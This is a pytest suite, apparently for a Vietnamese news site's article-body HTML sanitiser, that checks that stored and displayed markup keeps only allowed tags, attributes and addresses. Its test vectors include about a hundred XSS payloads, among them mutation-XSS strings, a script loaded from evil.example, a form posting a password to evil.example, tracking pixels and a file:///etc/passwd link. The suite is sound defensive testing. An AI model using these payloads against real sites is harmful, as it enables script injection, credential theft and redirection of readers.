"""Nothing that runs, tracks or deceives leaves the sanitiser, and nothing of it reaches a reader."""

from html.parser import HTMLParser

import pytest

from articles.body import clean, for_readers

ALLOWED = (
    "p br hr h2 h3 h4 strong em b i u s sub sup blockquote q cite ul ol li a img figure figcaption "
    "table caption thead tbody tfoot tr th td oembed div"
)
TAGS = set(ALLOWED.split())
ATTRIBUTES = {
    "a": {"href", "title", "target", "rel"},
    "img": {"src", "alt", "width", "height", "class"},
    "figure": {"class"},
    "p": {"class"},
    "div": {"class"},
    "td": {"colspan", "rowspan", "scope"},
    "th": {"colspan", "rowspan", "scope"},
    "ol": {"start", "reversed"},
}
# What readers get besides: links that players wait behind, and tables in a box that scrolls.
PLAYERS = ("https://www.youtube-nocookie.com/embed/", "https://player.vimeo.com/video/")
FOR_READERS = ATTRIBUTES | {
    "a": {"href", "title", "target", "rel", "class", "data-player", "data-title"},
    "div": {"class", "tabindex", "role", "aria-label"},
}
LINKS = ("https://", "http://", "mailto:", "tel:", "/")


class Inspector(HTMLParser):
    """Fails on the first tag, attribute or address that has no business in a body."""

    def __init__(self, attributes: dict[str, set[str]]):
        super().__init__()
        self.attributes = attributes

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS | self.attributes.keys()
        for name, value in attrs:
            assert name in self.attributes.get(tag, set()), f"{tag} {name}"
            if name == "href":
                assert value.startswith(LINKS) and not value.startswith("//")
            if name == "src" and tag == "img":
                assert value.startswith("/media/") and ".." not in value
            if name == "data-player":
                assert value.startswith(PLAYERS)

    def handle_comment(self, data):
        raise AssertionError("a comment")

    def unknown_decl(self, data):
        raise AssertionError("a declaration")


def inspect(html: str, attributes: dict[str, set[str]] = ATTRIBUTES) -> None:
    inspector = Inspector(attributes)
    inspector.feed(html)
    inspector.close()


# Each calls alert() in some browser, sends the reader or an address away, or reads what it should not.
VECTORS = [
    # scripts
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    "<p>chữ<script>alert(1)",
    "<script>alert(1)<!-- </script> -->",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img src=/media/photos/a.jpg onerror=alert(1)>",
    "<img/src=/media/photos/a.jpg/onerror=alert(1)>",
    "<img src='/media/photos/a.jpg'onload='alert(1)'>",
    "<img \x00src=x onerror=alert(1)>",
    "<p onclick=alert(1)>chữ</p>",
    "<p onmouseover='alert(1)' style='position:fixed;inset:0'>chữ</p>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>chữ</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>chữ</marquee>",
    "<select autofocus onfocus=alert(1)><option>chữ</select>",
    "<table background='javascript:alert(1)'><tr><td onclick=alert(1)>chữ</td></tr></table>",
    "<xss id=x onfocus=alert(1) tabindex=1>chữ</xss>",
    "<a href='/x' onclick\n=alert(1)>chữ</a>",
    '<p title="a"onclick=alert(1)//">chữ</p>',
    # addresses that run
    "<a href='javascript:alert(1)'>chữ</a>",
    "<a href='JaVaScRiPt:alert(1)'>chữ</a>",
    "<a href=' \x01javascript:alert(1)'>chữ</a>",
    "<a href='java\nscript:alert(1)'>chữ</a>",
    "<a href='java&Tab;script:alert(1)'>chữ</a>",
    "<a href='&#106;&#97;vascript&colon;alert(1)'>chữ</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>chữ</a>",
    "<a href='java\x00script:alert(1)'>chữ</a>",
    "<a href='java&#8203;script:alert(1)'>chữ</a>",
    "<a href='\u2028javascript:alert(1)'>chữ</a>",
    "<a href='vbscript:msgbox(1)'>chữ</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>chữ</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>chữ</a>",
    "<a href='feed:javascript:alert(1)'>chữ</a>",
    "<a href='view-source:javascript:alert(1)'>chữ</a>",
    "<a href='blob:https://x.example/1'>chữ</a>",
    "<a href='file:///etc/passwd'>chữ</a>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<blockquote cite='javascript:alert(1)'>chữ</blockquote>",
    "<oembed>javascript:alert(1)</oembed>",
    '<oembed>https://www.youtube.com/watch?v="><script>alert(1)</script></oembed>',
    "<oembed>https://www.youtube.com.evil.example/embed/abcdefghijk</oembed>",
    # other tags
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>chữ</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<math href='javascript:alert(1)'>chữ</math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='https://evil.example/www.youtube.com/embed/abcdefghijk'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<object data='data:text/html,<script>alert(1)</script>'>chữ</object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x>chữ</applet>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "<style>@import 'https://evil.example/x.css'; p { color: red }</style>",
    "<p style='background:url(https://evil.example/pixel)'>chữ</p>",
    "<form action='https://evil.example/'><input name=password><button>chữ</button></form>",
    "<button formaction='javascript:alert(1)'>chữ</button>",
    "<input type=image src=x formaction='javascript:alert(1)'>",
    "<frameset onload=alert(1)><frame src='javascript:alert(1)'></frameset>",
    "<isindex action='javascript:alert(1)'>",
    "<portal src='https://evil.example/'></portal>",
    # where parsers disagree
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<style><img title='</style><img src=x onerror=alert(1)>'></style>",
    "<style></style/><img src=x onerror=alert(1)>",
    "<style></style\t><img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<? <img src=x onerror=alert(1)> ?>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mi><p><style><!--</style></p></mi></math><img src=x onerror=alert(1)>-->",
    "<table><a href='javascript:alert(1)'>chữ</a><tr><td><svg><p><style><a title='</style><img src onerror=alert(1)>'>",
    "<p><b><a href='javascript:alert(1)'><table><a href='javascript:alert(2)'>chữ</table></b></p>",
    '<img alt="<img src=x onerror=alert(1)>" src="/media/photos/a.jpg">',
    "<img alt='`onerror=alert(1)' src='/media/photos/a.jpg'>",
    "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
    "<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</p>",
    # sending readers and their addresses elsewhere
    "<a href='//evil.example/'>chữ</a>",
    "<a href='\\\\evil.example/'>chữ</a>",
    "<a href='/\\evil.example/'>chữ</a>",
    "<a href='https:evil.example'>chữ</a>",
    "<a href='https:/evil.example'>chữ</a>",
    "<a href='https:///evil.example'>chữ</a>",
    "<a href='https://vnexpress.net@evil.example/'>chữ</a>",
    "<a href='https://baodientu.example\u202egpj.exe'>chữ</a>",
    "<a href='https://[evil.example/'>chữ</a>",
    "<a href='/x' ping='https://evil.example/'>chữ</a>",
    "<img src='//evil.example/pixel.gif'>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img src='/admin/logout/'>",
    "<img src='/media/../admin/logout/'>",
    "<img src='/media/%2e%2e/admin/logout/'>",
    "<img src='/media//evil.example/x.gif'>",
    "<img src='/media/photos/a.jpg?x=https://evil.example'>",
    "<img srcset='https://evil.example/pixel.gif 1x' src='/media/photos/a.jpg'>",
    "<picture><source srcset='https://evil.example/pixel.gif'><img src='/media/photos/a.jpg'></picture>",
]


@pytest.mark.parametrize("vector", VECTORS)
def test_only_what_is_allowed_is_stored(vector):
    inspect(clean(vector))


@pytest.mark.parametrize("vector", VECTORS)
def test_only_what_is_allowed_reaches_readers_even_if_it_was_stored_raw(vector):
    inspect(for_readers(f"<p>Trước</p>{vector}", {}), FOR_READERS)


@pytest.mark.parametrize("vector", VECTORS)
def test_cleaning_again_changes_nothing(vector):
    once = clean(vector)
    assert clean(str(once)) == once


@pytest.mark.parametrize(
    "tag", ["script", "style", "svg", "math", "title", "textarea", "noscript", "template", "xmp", "iframe", "object"]
)
def test_the_text_of_dangerous_tags_goes_with_them(tag):
    assert clean(f"<p>Trước</p><{tag}>alert(1)</{tag}>") == "<p>Trước</p>"


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "java&#8203;script:alert(1)",
        "//evil.example/",
        "\\\\evil.example/",
        "/\\evil.example/",
        "https://vi.example\\@evil.example/",
        "https:evil.example",
        "https:/evil.example",
        "https:///evil.example",
        "https://vi.example@evil.example/",
        "https://vi.example:x@evil.example/",
        "https://vi.example\uff20evil.example/",
        "https://vi&#8238;.example/",
        "https://vi.example/&#10;x",
        "https://[evil.example/",
        "ftp://vi.example/",
        "www.vi.example",
        "#chan-trang",
        "",
    ],
)
def test_an_address_that_deceives_or_leads_nowhere_is_no_link(address):
    assert clean(f"<p><a href='{address}'>chữ</a></p>") == "<p>chữ</p>"


def test_a_script_is_known_through_characters_nobody_sees():
    assert clean("<p>Trước</p><scr\u200bipt>alert(1)</scr\u00adipt>") == "<p>Trước</p>"


def test_half_a_character_is_dropped():
    assert clean("<p>Trư\ud800ớc</p>") == "<p>Trước</p>"


def test_a_link_that_is_refused_keeps_its_words():
    assert clean("<p>Xem <a href='javascript:alert(1)'>tại đây</a> nhé</p>") == "<p>Xem tại đây nhé</p>"


@pytest.mark.parametrize(
    "address",
    [
        "https://thaibinh.gov.vn/tin?a=1&amp;b=2#c",
        "http://a.vn",
        "mailto:toasoan@bao.vn",
        "tel:+84227123456",
        "/chinh-tri/",
    ],
)
def test_an_honest_link_stays_and_tells_the_other_site_nothing(address):
    link = f'<p><a href="{address}" rel="noopener noreferrer">tại đây</a></p>'
    assert clean(f"<p><a href='{address}' rel='opener'>tại đây</a></p>") == link


def test_a_link_may_open_a_new_window_by_blank_only():
    assert 'target="_blank"' in clean("<p><a href='/x' target='_blank'>chữ</a></p>")
    assert "target" not in clean("<p><a href='/x' target='opener'>chữ</a></p>")


def test_styles_identities_data_and_foreign_classes_go():
    html = "<p style='color:red' id='x' lang='en' title='y' data-z='1' class='MsoNormal align-right'>Chữ</p>"
    assert clean(html) == '<p class="align-right">Chữ</p>'


def test_sizes_and_spans_are_short_numbers_only():
    assert clean('<p><img src="/media/photos/a.jpg" width="640" height="100%"></p>') == (
        '<p><img src="/media/photos/a.jpg" width="640"></p>'
    )
    assert 'colspan="2"' in clean("<table><tr><td colspan=2>1</td></tr></table>")
    assert "colspan" not in clean("<table><tr><td colspan=99999>1</td></tr></table>")
    assert clean("<ol start=3 reversed type=a><li>Ba</li></ol>") == '<ol reversed="" start="3"><li>Ba</li></ol>'


def test_template_syntax_is_text_like_any_other():
    assert clean("<p>{{ 7*7 }} {% now 'Y' %}</p>") == "<p>{{ 7*7 }} {% now 'Y' %}</p>"
